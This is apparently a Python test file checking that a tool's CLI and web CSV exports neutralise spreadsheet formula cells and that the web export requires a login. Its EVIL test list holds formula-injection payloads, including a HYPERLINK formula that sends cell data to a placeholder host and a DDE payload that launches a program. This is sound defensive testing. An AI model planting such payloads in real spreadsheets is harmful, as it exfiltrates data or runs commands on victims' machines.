"""Cells a spreadsheet would run are neutralised in every CSV export, web and CLI."""

from __future__ import annotations

import csv
import io

import httpx
from hypothesis import example, given
from hypothesis import strategies as st
from typer.testing import CliRunner

from reckon.cells import TRIGGERS, safe_cell
from test_web_support import login, make_users, serve

EVIL = ['=HYPERLINK("http://example.invalid/?"&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"]


@given(st.text())
@example("=1+1")
@example("'=already quoted")
@example("")
def test_safe_cell_never_starts_with_a_trigger_and_loses_nothing(value: str) -> None:
    out = safe_cell(value)
    assert not out.startswith(TRIGGERS)
    assert out == value or out == "'" + value


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_stay_numbers(value) -> None:
    assert safe_cell(value) == value


def _evil_list(tmp_path):
    path = tmp_path / "evil.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name", "place_of_detention"])
        for i, evil in enumerate(EVIL):
            w.writerow([f"E{i}", f"Тэставы Асоба{i}", evil])
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_cli_and_web_exports_neutralise_formulas(sqlite_workspace, tmp_path) -> None:
    from reckon.cli import _build
    from reckon.ingest.service import import_file

    ws = sqlite_workspace
    import_file(ws, _evil_list(tmp_path), "evil")
    r = CliRunner().invoke(_build(), ["export", "records", "--out", str(tmp_path / "out.csv"), "-w", str(ws.root)])
    assert r.exit_code == 0, r.output
    r2 = CliRunner().invoke(_build(), ["records", "--format", "csv", "-w", str(ws.root)])
    for text in ((tmp_path / "out.csv").read_text(encoding="utf-8"), r2.stdout):
        cells = _cells(text)
        assert not [c for c in cells if c.startswith(TRIGGERS)]
        assert "'" + EVIL[0] in cells and "'@SUM(A1:A9)" in cells
    make_users(ws.database_url)
    with serve(ws) as base:
        client = login(base, "analyst")
        web = client.get("/export/records.csv")
        assert web.status_code == 200
        cells = _cells(web.text)
        assert not [c for c in cells if c.startswith(TRIGGERS)] and "'" + EVIL[0] in cells
        assert httpx.get(base + "/export/records.csv", timeout=60).status_code in (303, 401)
